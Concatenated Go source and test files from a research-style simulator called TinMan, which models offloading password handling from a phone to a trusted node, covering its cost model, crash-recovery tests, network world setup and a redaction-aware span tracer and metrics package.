		t.Fatalf("fraction = %v", f)
	}
	var empty Report
	if empty.OffloadedFraction() != 0 {
		t.Fatal("empty report fraction")
	}
}

func TestCostModelDefaults(t *testing.T) {
	cm := DefaultCostModel()
	if cm.NodeNsPerInstr >= cm.DeviceNsPerInstr {
		t.Fatal("node should be faster than device")
	}
	if cm.SSLStateSetup <= 0 || cm.NodeInjectSetup <= 0 {
		t.Fatal("SSL cost knobs unset")
	}
}
