package core

import (
	"bytes"
	"testing"

	"tinman/internal/cor"
	"tinman/internal/fault"
	"tinman/internal/netsim"
	"tinman/internal/store"
)

// TestDurableNodeSurvivesWorldRestart runs the standard offload scenario
// with a crash-safe store attached to the trusted node, kills the node, and
// boots a fresh World against the recovered store: registered cors, the
// offload-minted derived cor, the app binding and the audit trail must all
// survive, and the simulated disk must never hold cor plaintext.
func TestDurableNodeSurvivesWorldRestart(t *testing.T) {
	sealer, err := cor.NewSealer("core-store-pass", bytes.Repeat([]byte{0x3c}, cor.SaltLen))
	if err != nil {
		t.Fatal(err)
	}
	fs := fault.NewCrashFS(29)
	open := func() *store.Store {
		st, err := store.Open(store.Options{Dir: "store", FS: fs, Sealer: sealer})
		if err != nil {
			t.Fatalf("open store: %v", err)
		}
		return st
	}

	w := newTestWorld(t, true)
	if err := w.Node.AttachStore(open()); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Node.RegisterCor("pw", "secret12", "test pw"); err != nil {
		t.Fatal(err)
	}
	if err := w.Device.RefreshCatalog(); err != nil {
		t.Fatal(err)
	}
	app, err := w.Device.InstallApp("tiny", tinyApp, 8)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Node.BindApp("pw", app.Hash()); err != nil {
		t.Fatal(err)
	}
	pw, err := w.Device.CorArg(app, "pw")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := app.Run("Tiny", "touch", pw); err != nil {
		t.Fatal(err)
	}
	wantCors := w.Node.Cors.Len()
	wantAudit := w.Node.Audit.Len()
	if wantAudit == 0 {
		t.Fatal("offload produced no audit entries")
	}

	// Kill the node process; the simulated disk keeps only synced state.
	fs.CrashNow()
	fs.Restart()

	// A fresh world (fresh process) recovers the node from its store.
	w2, err := NewWorld(Config{Seed: 2, Profile: netsim.WiFi, TinManEnabled: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := w2.Node.AttachStore(open()); err != nil {
		t.Fatal(err)
	}
	if got := w2.Node.Cors.Len(); got != wantCors {
		t.Fatalf("recovered %d cors, want %d", got, wantCors)
	}
	if got := w2.Node.Audit.Len(); got != wantAudit {
		t.Fatalf("recovered %d audit entries, want %d", got, wantAudit)
	}
	rec := w2.Node.Cors.Get("pw")
	if rec == nil || rec.Plaintext != "secret12" {
		t.Fatalf("recovered cor = %+v", rec)
	}

	// The device re-pairs with the recovered node: app state is device-side
	// runtime, so it reinstalls, but the cor and its binding are already
	// there — the offload works without re-registering anything.
	if err := w2.Device.RefreshCatalog(); err != nil {
		t.Fatal(err)
	}
	app2, err := w2.Device.InstallApp("tiny", tinyApp, 8)
	if err != nil {
		t.Fatal(err)
	}
	pw2, err := w2.Device.CorArg(app2, "pw")
	if err != nil {
		t.Fatal(err)
	}
	res, err := app2.Run("Tiny", "touch", pw2)
	if err != nil {
		t.Fatalf("offload after recovery: %v", err)
	}
	if app2.Report.Migrations == 0 {
		t.Fatal("no offload happened after recovery")
	}
	if res.Int == int64('s') && res.Tag.Empty() {
		t.Fatal("plaintext first byte returned untainted after recovery")
	}

	if hits := fault.ScanForPlaintext(fs.DiskBytes(), []string{"secret12"}); len(hits) != 0 {
		t.Fatalf("cor plaintext on disk: %v", hits)
	}
}
