package core

import (
	"fmt"
	"time"

	"tinman/internal/netsim"
	"tinman/internal/obs"
	"tinman/internal/power"
	"tinman/internal/taint"
)

// CostModel converts VM work into virtual time. The device models a 1.2 GHz
// OMAP4460 running an interpreting Dalvik; the trusted node a 2.8 GHz
// quad-core i5 (§6) — roughly 5–6× faster per instruction.
type CostModel struct {
	// DeviceNsPerInstr is the device's cost per VM instruction. One VM
	// instruction stands for a coarse unit of app work (a bytecode basic
	// block plus framework overhead), so the figure is far above a raw
	// cycle time.
	DeviceNsPerInstr int64
	// NodeNsPerInstr is the trusted node's cost per VM instruction.
	NodeNsPerInstr int64
	// SerializeNsPerByte models DSM state (de)serialization CPU cost on
	// each side (Java serialization plus DSM bookkeeping).
	SerializeNsPerByte int64
	// ServerProcessing is an origin server's request handling time (web
	// login backends of the era took high hundreds of milliseconds).
	ServerProcessing time.Duration
	// SSLStateSetup is the device-side cost of extracting and shipping SSL
	// session state plus arming the packet filter (§3.2/§3.6) per injected
	// send.
	SSLStateSetup time.Duration
	// NodeInjectSetup is the trusted node's per-injection cost: policy
	// evaluation, malware lookup, session resume and audit.
	NodeInjectSetup time.Duration
}

// DefaultCostModel returns parameters calibrated so the end-to-end login
// latencies land in the paper's regime (≈4 s baseline over Wi-Fi, ≈+2 s
// under TinMan, split ≈0.8 s DSM / ≈1.2 s SSL+TCP).
func DefaultCostModel() CostModel {
	return CostModel{
		DeviceNsPerInstr:   800,
		NodeNsPerInstr:     175,
		SerializeNsPerByte: 250,
		ServerProcessing:   1600 * time.Millisecond,
		SSLStateSetup:      550 * time.Millisecond,
		NodeInjectSetup:    250 * time.Millisecond,
	}
}

// FaultOptions tunes the device↔node control channel's fault tolerance
// (§5.4): per-request deadlines, the retry schedule, and the circuit
// breaker that switches the device into cor-degraded mode. The zero value
// means the defaults noted on each field.
type FaultOptions struct {
	// RequestTimeout bounds one control round-trip attempt (default 30s).
	RequestTimeout time.Duration
	// ConnectTimeout bounds a control (re)connect attempt (default 10s).
	ConnectTimeout time.Duration
	// MaxAttempts is the number of round-trip attempts per logical request
	// before giving up (default 4).
	MaxAttempts int
	// RetryBackoffBase/RetryBackoffMax shape the capped-exponential wait
	// between attempts (defaults 500ms / 8s).
	RetryBackoffBase time.Duration
	RetryBackoffMax  time.Duration
	// BreakerThreshold consecutive request failures open the circuit
	// (default 3); it stays open for BreakerCooldown (default 30s) before a
	// probe is allowed.
	BreakerThreshold int
	BreakerCooldown  time.Duration
}

func (f FaultOptions) withDefaults() FaultOptions {
	if f.RequestTimeout <= 0 {
		f.RequestTimeout = 30 * time.Second
	}
	if f.ConnectTimeout <= 0 {
		f.ConnectTimeout = 10 * time.Second
	}
	if f.MaxAttempts <= 0 {
		f.MaxAttempts = 4
	}
	if f.RetryBackoffBase <= 0 {
		f.RetryBackoffBase = 500 * time.Millisecond
	}
	if f.RetryBackoffMax <= 0 {
		f.RetryBackoffMax = 8 * time.Second
	}
	if f.BreakerThreshold <= 0 {
		f.BreakerThreshold = 3
	}
	if f.BreakerCooldown <= 0 {
		f.BreakerCooldown = 30 * time.Second
	}
	return f
}

// Addresses of the fixed hosts.
const (
	DeviceAddr = "10.0.0.2"
	NodeAddr   = "10.8.0.1"
	// ControlPort carries the offload control plane on the trusted node.
	ControlPort = 7001
)

// Config assembles a World.
type Config struct {
	// Seed drives all simulation randomness.
	Seed int64
	// Profile is the device's wireless uplink (netsim.WiFi or
	// netsim.ThreeG). Defaults to Wi-Fi.
	Profile netsim.Profile
	// Cost is the compute-cost model; zero value means DefaultCostModel.
	Cost CostModel
	// DevicePolicy is the device-side taint policy; defaults to
	// taint.Asymmetric. (taint.Full reproduces the "full-fledged tainting
	// on the client" comparison; taint.Off models a non-TinMan device.)
	DevicePolicy taint.Policy
	// CorIdleWindow is the trusted node's migrate-back threshold in
	// instructions (§3.1 case 1). Defaults to 1000000.
	CorIdleWindow uint64
	// DeviceID names the device for policy/audit.
	DeviceID string
	// TinManEnabled toggles the whole machinery; when false the device
	// runs apps locally with no tainting and sends cor *plaintext* itself
	// (the unmodified-Android baseline — only usable in simulations, where
	// it demonstrates what TinMan prevents). Placeholder materialization
	// returns the plaintext, so the baseline actually logs in.
	TinManEnabled bool
	// BaselinePlaintexts supplies the baseline's secrets when TinManEnabled
	// is false (keyed by cor ID).
	BaselinePlaintexts map[string]string
	// Fault tunes the control channel's retry/deadline/breaker behavior;
	// the zero value takes the FaultOptions defaults.
	Fault FaultOptions
	// NoWarmup disables the speculative DSM warm-up pipeline, forcing every
	// first offload onto the cold full-snapshot path. Benchmarks use it for
	// the cold column of the warm-vs-cold comparison; correctness never
	// depends on the setting.
	NoWarmup bool
}

// World is one simulation universe: a device, a trusted node, origin
// servers, the network between them and the device's battery.
type World struct {
	Net    *netsim.Net
	Cost   CostModel
	Fault  FaultOptions
	Device *Device
	Node   *TrustedNode

	// Obs records the offload lifecycle as a span tree on the virtual clock.
	// nil (the default) disables tracing at zero cost; attach with Observe.
	Obs *obs.Tracer

	// Power model components.
	Battery *power.Battery
	CPU     *power.Activity
	Radio   *power.Radio
	Display *power.Activity

	profile       netsim.Profile
	dns           map[string]string // domain -> address
	enabled       bool
	noWarmup      bool
	corIdleWindow uint64
	// taintFactor slows device compute under client-side tainting (the
	// Fig 13 overhead applied to the cost model): 1.0 for Off, ~1.10 for
	// asymmetric, ~1.20 for full client tainting.
	taintFactor float64
}

// NewWorld builds the universe and connects the device to the trusted node.
func NewWorld(cfg Config) (*World, error) {
	if cfg.Profile.Name == "" {
		cfg.Profile = netsim.WiFi
	}
	if cfg.Cost == (CostModel{}) {
		cfg.Cost = DefaultCostModel()
	}
	if cfg.DevicePolicy.Name() == "" {
		cfg.DevicePolicy = taint.Asymmetric
	}
	if cfg.CorIdleWindow == 0 {
		cfg.CorIdleWindow = 1_000_000
	}
	if cfg.DeviceID == "" {
		cfg.DeviceID = "galaxy-nexus-1"
	}

	w := &World{
		Net:           netsim.New(cfg.Seed),
		Cost:          cfg.Cost,
		Fault:         cfg.Fault.withDefaults(),
		profile:       cfg.Profile,
		dns:           make(map[string]string),
		enabled:       cfg.TinManEnabled,
		noWarmup:      cfg.NoWarmup,
		taintFactor:   1.0,
		corIdleWindow: cfg.CorIdleWindow,
	}
	switch cfg.DevicePolicy.Name() {
	case taint.Asymmetric.Name():
		w.taintFactor = 1.10
	case taint.Full.Name():
		w.taintFactor = 1.20
	}

	// Battery with the standard component set.
	w.Battery = power.NewBattery(power.GalaxyNexusCapacityJ)
	w.Battery.Attach(power.NewConstant("base", power.BaseIdleW))
	w.CPU = power.NewActivity("cpu", power.CPUActiveW, 0)
	w.Battery.Attach(w.CPU)
	if cfg.Profile.Name == "3g" {
		w.Radio = power.NewThreeGRadio()
	} else {
		w.Radio = power.NewWiFiRadio()
	}
	w.Battery.Attach(w.Radio)
	w.Display = power.NewActivity("display", power.DisplayOnW, 0)
	w.Battery.Attach(w.Display)

	devHost := w.Net.AddHost(DeviceAddr)
	nodeHost := w.Net.AddHost(NodeAddr)
	w.Net.Connect(devHost, nodeHost, cfg.Profile)

	w.Node = newTrustedNode(w, nodeHost, cfg.CorIdleWindow)
	w.Device = newDevice(w, devHost, cfg.DeviceID, cfg.DevicePolicy, cfg.BaselinePlaintexts)

	if cfg.TinManEnabled {
		if err := w.Device.connectControl(); err != nil {
			return nil, fmt.Errorf("core: connecting control plane: %v", err)
		}
	}
	return w, nil
}

// Observe attaches an obs tracer running on the world's virtual clock and
// bridges packet deliveries into it (replacing any netsim tracer attached
// earlier), so wire traffic nests under the span that caused it. capn bounds
// the flight recorder (0 = default). Device and node spans share the one
// tracer: the simulation event loop is single-threaded, and the node side
// attaches via wire-propagated trace context, never the span stack.
func (w *World) Observe(capn int) *obs.Tracer {
	w.Obs = obs.New(obs.Options{Now: w.Net.Now, Cap: capn})
	w.Net.Trace(&netsim.Tracer{Cap: obsPacketCap, Obs: w.Obs})
	// Surface the replacer's middlebox-style silent drops as instant events.
	w.Node.Replacer.Obs = w.Obs
	return w.Obs
}

// obsPacketCap bounds the bridging netsim tracer's own buffer; the obs
// recorder is bounded separately.
const obsPacketCap = 16384

// TinManEnabled reports whether the offload machinery is active.
func (w *World) TinManEnabled() bool { return w.enabled }

// DeviceNodeLink returns the wireless link between the device and the
// trusted node — the one chaos scenarios partition and flap.
func (w *World) DeviceNodeLink() *netsim.Link { return w.Device.Host.Link(NodeAddr) }

// CrashNode powers the trusted node's host off: it sends nothing and
// silently loses everything in flight, like a machine yanked off the
// network mid-conversation.
func (w *World) CrashNode() { w.Node.Host.SetDown(true) }

// RestartNode powers the node's host back on and drops all of its TCP
// state, modeling a reboot: established control connections die with a
// RST and the device's reconnect path re-establishes them on demand. The
// node service's durable state (vault, policy, audit, installed apps)
// survives, as §2.5 requires of a trusted node.
func (w *World) RestartNode() {
	w.Node.Host.SetDown(false)
	w.Node.Stack.AbortAll()
}

// Profile returns the device uplink profile.
func (w *World) Profile() netsim.Profile { return w.profile }

// AddStandbyNode boots a second trusted node on the simulated network —
// the target of a planned shard handoff (the in-process counterpart of a
// fleet drain). Like a fleet member it starts with an empty vault: the
// caller replicates registered cors onto it before handing shards off,
// exactly as the fleet control plane would.
func (w *World) AddStandbyNode(addr string) *TrustedNode {
	host := w.Net.AddHost(addr)
	w.Net.Connect(w.Node.Host, host, w.profile)
	w.Net.Connect(w.Device.Host, host, w.profile)
	return newTrustedNode(w, host, w.corIdleWindow)
}

// AddServerHost creates an origin-server host linked to the device (over
// the wireless profile) and the trusted node (over a wired path), and
// registers its domain name.
func (w *World) AddServerHost(domain, addr string) *netsim.Host {
	h := w.Net.AddHost(addr)
	w.Net.Connect(w.Device.Host, h, w.profile)
	w.Net.Connect(w.Node.Host, h, netsim.Wired)
	w.dns[domain] = addr
	return h
}

// Resolve maps a domain to its address.
func (w *World) Resolve(domain string) (string, error) {
	addr, ok := w.dns[domain]
	if !ok {
		return "", fmt.Errorf("core: unknown domain %q", domain)
	}
	return addr, nil
}

// ReverseResolve maps an address back to its domain (for policy reporting).
func (w *World) ReverseResolve(addr string) string {
	for d, a := range w.dns {
		if a == addr {
			return d
		}
	}
	return addr
}

// advanceCompute models local computation: the clock moves and, on the
// device, the CPU burns power.
func (w *World) advanceCompute(device bool, instrs uint64) {
	var ns int64
	if device {
		ns = w.Cost.DeviceNsPerInstr
	} else {
		ns = w.Cost.NodeNsPerInstr
	}
	d := time.Duration(int64(instrs) * ns)
	if device && w.taintFactor > 1 {
		d = time.Duration(float64(d) * w.taintFactor)
	}
	if d <= 0 {
		return
	}
	if device {
		w.CPU.NoteActive(w.Net.Now(), d)
		w.Net.Advance(d)
	} else {
		// Node compute costs wall-clock but not device battery; the device
		// CPU idles while the thread runs remotely.
		w.Net.Advance(d)
	}
}

// advanceDeviceWork models non-VM device CPU work of duration d (state
// serialization, SSL bookkeeping): the clock moves and the CPU burns power.
func (w *World) advanceDeviceWork(d time.Duration) {
	if d <= 0 {
		return
	}
	w.CPU.NoteActive(w.Net.Now(), d)
	w.Net.Advance(d)
}

// noteDeviceTransfer charges the radio for moving n bytes over the uplink.
func (w *World) noteDeviceTransfer(n int) {
	d := w.profile.Latency
	if w.profile.Bandwidth > 0 {
		d += time.Duration(float64(n) / w.profile.Bandwidth * float64(time.Second))
	}
	w.Radio.NoteTransfer(w.Net.Now(), d)
}
