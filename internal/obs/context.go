package obs

import "context"

type ctxKey struct{}

// ContextWithSpan attaches a span to a context so service-layer code can
// attribute child spans without a tracer parameter in every signature.
func ContextWithSpan(ctx context.Context, s *Span) context.Context {
	if s == nil {
		return ctx
	}
	return context.WithValue(ctx, ctxKey{}, s)
}

// SpanFromContext returns the span attached by ContextWithSpan, or nil.
// A nil span is safe to use (all Span methods no-op), so callers never
// need to branch.
func SpanFromContext(ctx context.Context) *Span {
	if ctx == nil {
		return nil
	}
	s, _ := ctx.Value(ctxKey{}).(*Span)
	return s
}
