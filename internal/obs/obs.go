// Package obs is TinMan's observability subsystem: a span tracer, a metrics
// registry and a set of exporters shared by the virtual-time simulation
// (internal/core and friends) and the deployable trusted node
// (internal/nodeproto, cmd/tinman-node).
//
// # Spans
//
// Trace and span IDs are minted on the device side and propagated to the
// trusted node on the wire (nodeproto Request.TraceID/SpanID, core's
// msgTaggedTrace frame), so one login renders as a single tree: taint
// trigger -> DSM migrate -> node execution -> sync-back, with TLS session
// injection, TCP payload replacement and policy decisions attributed as
// child spans. Timestamps come from an injected clock: the netsim virtual
// clock in simulation, the wall clock in cmd/tinman-node.
//
// # Redaction
//
// Every value that can reach an exporter passes a central gate. Spans carry
// typed Fields whose constructors accept only identifiers and numbers (cor
// IDs, app hashes, device IDs, domains, byte counts, error *classes*) —
// there is no free-string field, so cor plaintext and vault key material
// are structurally unrepresentable in a span. Metric values are numbers and
// metric names are call-site literals. String values are additionally
// length-capped and stripped of control characters (see field.go).
//
// # Cost when disabled
//
// A nil *Tracer is the disabled tracer: every method is nil-safe and the
// no-field fast paths allocate nothing (asserted by TestObsZeroAllocDisabled
// via testing.AllocsPerRun). Call sites that build fields guard with
// Enabled().
package obs

import (
	"sync"
	"time"
)

// TraceID identifies one end-to-end trace (one login run).
type TraceID uint64

// SpanID identifies one span within a trace.
type SpanID uint64

// Phase is the fixed vocabulary of span names. Exporters emit the phase
// string, never caller-supplied text, which is part of the redaction story.
type Phase uint8

// Span phases, covering the offload lifecycle of §3 plus the transports.
const (
	PhaseUnknown Phase = iota
	// PhaseLogin is the root span of one end-to-end app run.
	PhaseLogin
	// PhaseDeviceExec is one device-VM execution burst between offload
	// events.
	PhaseDeviceExec
	// PhaseTaintTrigger marks the tainted access that tripped the offload
	// hook (instant).
	PhaseTaintTrigger
	// PhaseDSMMigrate is one device->node->device DSM thread round trip.
	PhaseDSMMigrate
	// PhaseNodeExec is the node-side VM execution of an offloaded episode.
	PhaseNodeExec
	// PhaseSyncBack is the node-side capture/serialization of the reply
	// migration (the sync back of §3.1).
	PhaseSyncBack
	// PhaseTLSInject is the SSL session injection round trip (§3.2).
	PhaseTLSInject
	// PhaseTCPReplace is the node-side TCP payload replacement (§3.3).
	PhaseTCPReplace
	// PhasePolicyCheck is one policy-engine decision (§3.4).
	PhasePolicyCheck
	// PhaseVaultOpen is one cor vault access that materializes plaintext
	// inside the node (reseal/replacement). Only the cor ID and byte counts
	// are recorded.
	PhaseVaultOpen
	// PhaseControlRPC is one device control-plane round trip (any message).
	PhaseControlRPC
	// PhaseHTTPWait is the device waiting on an origin server's response.
	PhaseHTTPWait
	// PhaseNodeOp is one nodeproto server request.
	PhaseNodeOp
	// PhasePacket is one simulated packet delivery (instant), bridged from
	// netsim.Tracer.
	PhasePacket
	// PhaseDSMWarmup is one speculative warm-up chunk shipped or applied
	// (the pre-migration pipeline overlapping the initial DSM snapshot with
	// device execution).
	PhaseDSMWarmup
	phaseCount
)

var phaseNames = [phaseCount]string{
	PhaseUnknown:      "unknown",
	PhaseLogin:        "login",
	PhaseDeviceExec:   "device_exec",
	PhaseTaintTrigger: "taint_trigger",
	PhaseDSMMigrate:   "dsm_migrate",
	PhaseNodeExec:     "node_exec",
	PhaseSyncBack:     "sync_back",
	PhaseTLSInject:    "tls_inject",
	PhaseTCPReplace:   "tcp_replace",
	PhasePolicyCheck:  "policy_check",
	PhaseVaultOpen:    "vault_open",
	PhaseControlRPC:   "control_rpc",
	PhaseHTTPWait:     "http_wait",
	PhaseNodeOp:       "node_op",
	PhasePacket:       "packet",
	PhaseDSMWarmup:    "dsm_warmup",
}

// String returns the phase's fixed exporter name.
func (p Phase) String() string {
	if p >= phaseCount {
		return "unknown"
	}
	return phaseNames[p]
}

// SpanRecord is one completed span as retained by the flight recorder.
type SpanRecord struct {
	Trace  TraceID
	ID     SpanID
	Parent SpanID
	Phase  Phase
	Start  time.Duration
	End    time.Duration
	Fields []Field
}

// Duration returns the span's wall time on its tracer's clock.
func (r SpanRecord) Duration() time.Duration { return r.End - r.Start }

// Options configures a Tracer.
type Options struct {
	// Now supplies timestamps. Simulations inject the netsim virtual clock;
	// nil uses the wall clock measured from the tracer's construction
	// (cmd/tinman-node).
	Now func() time.Duration
	// Cap bounds the flight recorder (finished spans retained); once full,
	// the oldest record is overwritten and Dropped counts the overwrites.
	// 0 means the default (16384).
	Cap int
}

// defaultCap is the flight-recorder bound when Options.Cap is 0.
const defaultCap = 16384

// Tracer mints spans and retains finished ones in a bounded flight
// recorder. A nil *Tracer is the disabled tracer: every method no-ops.
//
// StartSpan/Current use an active-span stack and are intended for
// single-goroutine drivers (the virtual-time simulation's event loop).
// Concurrent servers use StartRemote with an explicit wire-propagated
// parent, which never touches the stack.
type Tracer struct {
	now func() time.Duration

	mu        sync.Mutex
	ring      []SpanRecord
	head      int // next write position when the ring is full
	full      bool
	dropped   uint64
	stack     []*Span
	lastTrace uint64
	lastSpan  uint64
}

// New builds a tracer.
func New(opts Options) *Tracer {
	now := opts.Now
	if now == nil {
		start := time.Now()
		now = func() time.Duration { return time.Since(start) }
	}
	capn := opts.Cap
	if capn <= 0 {
		capn = defaultCap
	}
	return &Tracer{now: now, ring: make([]SpanRecord, 0, capn)}
}

// Enabled reports whether the tracer records anything; call sites that
// build fields guard with it so the disabled path allocates nothing.
func (t *Tracer) Enabled() bool { return t != nil }

// Now returns the tracer's clock reading (0 when disabled).
func (t *Tracer) Now() time.Duration {
	if t == nil {
		return 0
	}
	return t.now()
}

// Span is one in-progress span. All methods are nil-safe.
type Span struct {
	tr      *Tracer
	rec     SpanRecord
	onStack bool
	ended   bool
}

// mintLocked allocates the next span ID; callers hold t.mu.
func (t *Tracer) mintLocked() SpanID {
	t.lastSpan++
	return SpanID(t.lastSpan)
}

// StartSpan opens a span as a child of the current stack top; with an empty
// stack it roots a fresh trace. The span stays current until End.
func (t *Tracer) StartSpan(p Phase, fs ...Field) *Span {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	s := &Span{tr: t, onStack: true}
	s.rec.Phase = p
	s.rec.ID = t.mintLocked()
	if n := len(t.stack); n > 0 {
		top := t.stack[n-1]
		s.rec.Trace = top.rec.Trace
		s.rec.Parent = top.rec.ID
	} else {
		t.lastTrace++
		s.rec.Trace = TraceID(t.lastTrace)
	}
	s.rec.Fields = fs
	t.stack = append(t.stack, s)
	t.mu.Unlock()
	s.rec.Start = t.now()
	return s
}

// StartRemote opens a span under an explicit (wire-propagated) parent
// without touching the current-span stack; safe for concurrent servers.
// A zero trace roots a fresh trace.
func (t *Tracer) StartRemote(p Phase, trace TraceID, parent SpanID, fs ...Field) *Span {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	s := &Span{tr: t}
	s.rec.Phase = p
	s.rec.ID = t.mintLocked()
	if trace == 0 {
		t.lastTrace++
		trace = TraceID(t.lastTrace)
		parent = 0
	}
	s.rec.Trace = trace
	s.rec.Parent = parent
	s.rec.Fields = fs
	t.mu.Unlock()
	s.rec.Start = t.now()
	return s
}

// Current returns the active span's identity for wire propagation.
func (t *Tracer) Current() (TraceID, SpanID, bool) {
	if t == nil {
		return 0, 0, false
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	if n := len(t.stack); n > 0 {
		top := t.stack[n-1]
		return top.rec.Trace, top.rec.ID, true
	}
	return 0, 0, false
}

// Event records an instant (zero-duration) span under the current span.
func (t *Tracer) Event(p Phase, fs ...Field) {
	if t == nil {
		return
	}
	now := t.now()
	t.mu.Lock()
	rec := SpanRecord{Phase: p, ID: t.mintLocked(), Start: now, End: now, Fields: fs}
	if n := len(t.stack); n > 0 {
		top := t.stack[n-1]
		rec.Trace = top.rec.Trace
		rec.Parent = top.rec.ID
	} else {
		t.lastTrace++
		rec.Trace = TraceID(t.lastTrace)
	}
	t.recordLocked(rec)
	t.mu.Unlock()
}

// Packet records one packet delivery as an instant span attributed to the
// current span (the netsim.Tracer bridge). src, dst and note pass the
// string gate; note should come from a fixed vocabulary.
func (t *Tracer) Packet(at time.Duration, src, dst string, size int, note string) {
	if t == nil {
		return
	}
	fs := []Field{Src(src), Dst(dst), Bytes(size)}
	if note != "" {
		fs = append(fs, Note(note))
	}
	t.mu.Lock()
	rec := SpanRecord{Phase: PhasePacket, ID: t.mintLocked(), Start: at, End: at, Fields: fs}
	if n := len(t.stack); n > 0 {
		top := t.stack[n-1]
		rec.Trace = top.rec.Trace
		rec.Parent = top.rec.ID
	} else {
		t.lastTrace++
		rec.Trace = TraceID(t.lastTrace)
	}
	t.recordLocked(rec)
	t.mu.Unlock()
}

// Add appends fields to an in-progress span.
func (s *Span) Add(fs ...Field) {
	if s == nil || s.ended {
		return
	}
	s.rec.Fields = append(s.rec.Fields, fs...)
}

// Trace returns the span's trace ID (0 when nil).
func (s *Span) Trace() TraceID {
	if s == nil {
		return 0
	}
	return s.rec.Trace
}

// ID returns the span's ID (0 when nil).
func (s *Span) ID() SpanID {
	if s == nil {
		return 0
	}
	return s.rec.ID
}

// End closes the span at the tracer's current clock reading.
func (s *Span) End() {
	if s == nil {
		return
	}
	s.EndAt(s.tr.now())
}

// EndAt closes the span at an explicit clock reading — the simulation uses
// it for node work whose duration is modeled (scheduled) rather than
// elapsed.
func (s *Span) EndAt(at time.Duration) {
	if s == nil || s.ended {
		return
	}
	s.ended = true
	s.rec.End = at
	t := s.tr
	t.mu.Lock()
	if s.onStack {
		// Pop this span and anything abandoned above it.
		for i := len(t.stack) - 1; i >= 0; i-- {
			if t.stack[i] == s {
				t.stack = t.stack[:i]
				break
			}
		}
	}
	t.recordLocked(s.rec)
	t.mu.Unlock()
}

// Child opens a span under this span with an explicit parent link (no
// stack), for handlers that received the parent over the wire or a context.
func (s *Span) Child(p Phase, fs ...Field) *Span {
	if s == nil {
		return nil
	}
	return s.tr.StartRemote(p, s.rec.Trace, s.rec.ID, fs...)
}

// ChildAt records a completed child span over an explicit interval —
// the simulation attributes modeled node compute (scheduled delays) this
// way.
func (s *Span) ChildAt(p Phase, start, end time.Duration, fs ...Field) {
	if s == nil {
		return
	}
	t := s.tr
	t.mu.Lock()
	rec := SpanRecord{
		Trace: s.rec.Trace, Parent: s.rec.ID, Phase: p,
		Start: start, End: end, Fields: fs,
	}
	rec.ID = t.mintLocked()
	t.recordLocked(rec)
	t.mu.Unlock()
}

// recordLocked appends a finished span to the bounded ring; callers hold
// t.mu.
func (t *Tracer) recordLocked(rec SpanRecord) {
	if len(t.ring) < cap(t.ring) {
		t.ring = append(t.ring, rec)
		return
	}
	t.ring[t.head] = rec
	t.head = (t.head + 1) % len(t.ring)
	t.full = true
	t.dropped++
}

// Records returns the retained finished spans, oldest first.
func (t *Tracer) Records() []SpanRecord {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]SpanRecord, 0, len(t.ring))
	if t.full {
		out = append(out, t.ring[t.head:]...)
		out = append(out, t.ring[:t.head]...)
	} else {
		out = append(out, t.ring...)
	}
	return out
}

// Dropped counts finished spans overwritten by the bounded recorder.
func (t *Tracer) Dropped() uint64 {
	if t == nil {
		return 0
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.dropped
}

// Reset clears the flight recorder (the active-span stack is untouched).
func (t *Tracer) Reset() {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.ring = t.ring[:0]
	t.head = 0
	t.full = false
	t.dropped = 0
	t.mu.Unlock()
}
