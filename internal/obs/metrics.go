package obs

import (
	"fmt"
	"io"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Counter is a monotonically increasing atomic counter. A nil *Counter is
// the disabled counter: Inc/Add no-op, so instrumented code needs no guards.
type Counter struct {
	n atomic.Uint64
}

// Inc adds one.
func (c *Counter) Inc() {
	if c != nil {
		c.n.Add(1)
	}
}

// Add adds d.
func (c *Counter) Add(d uint64) {
	if c != nil {
		c.n.Add(d)
	}
}

// Value returns the current count (0 when disabled).
func (c *Counter) Value() uint64 {
	if c == nil {
		return 0
	}
	return c.n.Load()
}

// Gauge is an atomic instantaneous value. A nil *Gauge no-ops.
type Gauge struct {
	n atomic.Int64
}

// Inc adds one.
func (g *Gauge) Inc() {
	if g != nil {
		g.n.Add(1)
	}
}

// Dec subtracts one.
func (g *Gauge) Dec() {
	if g != nil {
		g.n.Add(-1)
	}
}

// Set stores v.
func (g *Gauge) Set(v int64) {
	if g != nil {
		g.n.Store(v)
	}
}

// Value returns the current value (0 when disabled).
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	return g.n.Load()
}

// histBounds are the fixed latency bucket upper bounds. Fixed buckets keep
// Observe allocation-free and the Prometheus dump cheap; the range covers
// sub-millisecond loopback RPCs through multi-second simulated logins.
var histBounds = [...]time.Duration{
	50 * time.Microsecond, 100 * time.Microsecond, 250 * time.Microsecond,
	500 * time.Microsecond, time.Millisecond, 2500 * time.Microsecond,
	5 * time.Millisecond, 10 * time.Millisecond, 25 * time.Millisecond,
	50 * time.Millisecond, 100 * time.Millisecond, 250 * time.Millisecond,
	500 * time.Millisecond, time.Second, 2500 * time.Millisecond,
	5 * time.Second,
}

// Histogram is a fixed-bucket latency histogram with atomic buckets. A nil
// *Histogram no-ops.
type Histogram struct {
	buckets [len(histBounds) + 1]atomic.Uint64
	count   atomic.Uint64
	sum     atomic.Int64 // nanoseconds
}

// Observe records one latency sample.
func (h *Histogram) Observe(d time.Duration) {
	if h == nil {
		return
	}
	i := 0
	for ; i < len(histBounds); i++ {
		if d <= histBounds[i] {
			break
		}
	}
	h.buckets[i].Add(1)
	h.count.Add(1)
	h.sum.Add(int64(d))
}

// Count returns the number of samples (0 when disabled).
func (h *Histogram) Count() uint64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// Sum returns the summed samples (0 when disabled).
func (h *Histogram) Sum() time.Duration {
	if h == nil {
		return 0
	}
	return time.Duration(h.sum.Load())
}

// Metrics is a registry of named collectors. Names are call-site literals
// in Prometheus form, optionally with a label set:
//
//	m.Counter(`tinman_node_requests_total{op="reseal"}`)
//
// Get-or-create is mutex-guarded (registration is rare: instrumented code
// caches the returned collector); reads and updates on the collectors
// themselves are lock-free atomics. A nil *Metrics returns nil collectors,
